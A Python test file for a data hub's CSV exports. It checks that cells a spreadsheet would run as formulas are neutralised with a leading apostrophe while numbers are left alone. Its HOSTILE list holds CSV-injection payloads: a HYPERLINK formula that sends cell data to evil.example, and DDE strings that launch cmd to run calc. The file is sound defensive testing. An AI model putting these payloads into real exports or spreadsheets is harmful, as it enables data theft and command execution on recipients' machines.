"""Spreadsheet formula injection, through a running server: a department's text that a
spreadsheet would run as a formula comes back neutralised in every CSV the hub writes — the
extract in UTF-8 and GB18030, the SQL gateway's CSV, the public open-data CSV and the feedback
file to the department — while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta
from pathlib import Path

import httpx
import pyarrow as pa
import pytest

from catalog import resource
from catalog.identifiers import uscc_check_char
from catalog.spreadsheet import neutralise, neutralise_text
from exchange import create_app
from exchange.clients import create_client
from quality.feedback import write_feedback
from tests.conftest import make_settings, open_registry
from tests.exchange.conftest import serving
from tests.pipelines.helpers import deliver, ingest, query

pytestmark = pytest.mark.slow

CODE = "sj.enterprises"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PLAIN = ["惠州市第1贸易有限公司", "-12", "+3.5"]  # plain numbers in text are left alone


def _enterprise(n: int, name: str) -> str:
    first17 = f"91441300MA{n:07d}"
    return json.dumps({
        "uscc": first17 + uscc_check_char(first17), "name": name, "entity_type": "有限责任公司",
        "legal_rep": {"name": "张三", "id_number": "441302198001010019"},
        "registered_capital_wan": 50.5, "status": "存续", "established_date": "2019-05-20",
        "district_code": "441303"}, ensure_ascii=False)


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A hub whose one published resource holds hostile names, served by uvicorn; an HTTP
    client with a requester's token, and the settings."""
    settings = make_settings(tmp_path / "home", tmp_path / "landing", monkeypatch)
    registry = open_registry(settings)
    names = HOSTILE + PLAIN
    lines = [_enterprise(n, name) for n, name in enumerate(names, 1)]
    lines.append("=1+1")  # not JSON: quarantined, and its text goes back in the feedback file
    deliver(settings, CODE, "20261001T020000.jsonl", "\n".join(lines).encode())
    ingest(settings, registry, CODE)
    write_feedback(settings, resource(CODE), registry.batches(CODE), [])
    app = create_app(settings)
    issued = create_client(app.state.hub.store, "mz-system", "民政", "mz", ["requester"])
    with serving(app) as url, httpx.Client(base_url=url, timeout=60) as http:
        token = http.post("/oauth/token", data={"grant_type": "client_credentials"},
                          auth=("mz-system", issued.secret)).json()["access_token"]
        http.headers["Authorization"] = f"Bearer {token}"
        yield http, settings


def _names(text: str, column: str = "name") -> list[str]:
    return sorted(r[column] for r in csv.DictReader(io.StringIO(text)))


def _published(settings) -> list[str]:
    """The names as the lake holds them (standardising trims the tab and CR cases)."""
    return sorted(n for (n,) in query(settings, "SELECT name FROM published.sj_enterprises"))


def _safe(names: list[str], settings) -> None:
    """The CSV's names are exactly the published ones, neutralised: each hostile formula with
    its apostrophe, the plain numbers as they were, and no cell a spreadsheet would run."""
    assert names == sorted(neutralise_text(n) for n in _published(settings))
    assert {"'" + h for h in HOSTILE[:4]} | set(PLAIN) <= set(names)
    assert not [n for n in names if n[:1] in ("=", "+", "-", "@", "\t", "\r")
                and n not in PLAIN]


def _order(http, mode: str) -> str:
    response = http.post("/v1/orders", json={
        "resource": CODE, "mode": mode, "items": ["uscc", "name", "registered_capital_wan"],
        "purpose": "市场主体信用监管", "legal_basis": "《优化营商环境条例》",
        "valid_until": (date.today() + timedelta(days=30)).isoformat(), "quota_calls": 10})
    assert response.status_code == 201, response.text
    assert response.json()["status"] == "approved"
    return response.json()["id"]


def test_extract_csv_in_both_encodings(site):
    http, settings = site
    url = f"/v1/orders/{_order(http, 'extract')}/extract"
    utf8 = http.get(url, params={"format": "csv"})
    assert utf8.status_code == 200, utf8.text
    text = utf8.content.decode("utf-8-sig")
    _safe(_names(text), settings)
    assert {r["registered_capital_wan"] for r in csv.DictReader(io.StringIO(text))} == {"50.5"}
    gb = http.get(url, params={"format": "csv-gb18030"})
    _safe(_names(gb.content.decode("gb18030")), settings)
    # An Arrow stream is typed data for programs: the names as published.
    arrow = http.get(url, params={"format": "arrow"})
    table = pa.ipc.open_stream(arrow.content).read_all()
    assert sorted(table.column("name").to_pylist()) == _published(settings)


def test_sql_gateway_csv(site):
    http, settings = site
    _order(http, "query")
    response = http.post("/v1/sql", json={
        "sql": "SELECT name, registered_capital_wan, -registered_capital_wan AS negative "
               "FROM sj_enterprises", "format": "csv"})
    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8-sig")
    _safe(_names(text), settings)
    # A number column typed as a number is written as a number, sign and all.
    assert {r["negative"] for r in csv.DictReader(io.StringIO(text))} == {"-50.5"}


def test_open_data_csv(site):
    http, settings = site
    response = http.get(f"/open/v1/resources/{CODE}/data.csv", headers={"Authorization": ""})
    assert response.status_code == 200, response.text
    _safe(_names(response.content.decode("utf-8-sig")), settings)


def test_feedback_file_to_the_department(site):
    _http, settings = site
    [path] = (settings.home / "quality" / "feedback").rglob("*.csv")
    text = path.read_text(encoding="utf-8-sig")
    assert "'=1+1" in text
    assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(text)) for cell in row)


def test_the_rule_on_its_own():
    for hostile in HOSTILE:
        assert neutralise_text(hostile) == "'" + hostile
    for plain in [*PLAIN, "", "a=1", " =1"]:
        assert neutralise_text(plain) == plain
    table = pa.table({"t": HOSTILE + PLAIN + [None], "n": [-1.5] * (len(HOSTILE) + 4),
                      "d": pa.array(["=1"] * (len(HOSTILE) + 4)).dictionary_encode()})
    safe = neutralise(table)
    assert safe.column("t").to_pylist() == [neutralise_text(v) for v in HOSTILE + PLAIN] + [None]
    assert safe.column("n").type == pa.float64() and safe.column("n").to_pylist()[0] == -1.5
    assert safe.column("d").type == pa.string() and set(safe.column("d").to_pylist()) == {"'=1"}
